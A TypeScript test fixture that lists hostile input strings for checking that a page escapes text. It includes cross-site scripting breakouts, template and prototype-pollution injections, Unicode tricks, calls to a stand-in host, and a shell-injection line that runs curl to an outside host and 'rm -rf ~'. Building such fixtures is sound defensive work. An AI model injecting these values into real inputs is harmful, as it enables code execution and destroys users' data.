/** Leaves a trace if it runs. */
const RUN = 'window.pwned=1;alert(1)';

/** Values that would run or load something, in a page that takes text for more than text. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'an image with a handler': `<img src=x onerror="${RUN}">`,
  'the end of a script, and a new one': `</script><script>${RUN}</script>`,
  'the end of an attribute': `"><svg onload="${RUN}">`,
  'the end of an attribute in single quotes': `' onfocus='${RUN}' autofocus='`,
  'a script as an address': `javascript:${RUN}`,
  'data as an address': `data:text/html,<script>${RUN}</script>`,
  'a template of JavaScript': `\${${RUN}}\`\${alert(1)}\``,
  'a template of other languages': `{{constructor.constructor('${RUN}')()}}`,
  'a comment that hides the rest': '<!--<script>',
  'line separators': `\u2028${RUN}\u2029//`,
  'a change of direction': '\u202e\u2066drowssap\u2069',
  'a place to fill in': '%FACTS%%SCRIPT%%TITLE%$&$`$\'',
  'names that objects have': '__proto__',
  'an outside image in CSS': 'x;background:url(https://outside.example/x.png)',
  'an outside address': 'https://outside.example/?q=1',
  'half a character': 'a\ud800b',
  'a shell command': '$(curl https://outside.example/)`id`; rm -rf ~ #',
  'something very long': `<b>${'x'.repeat(20000)}`,
};
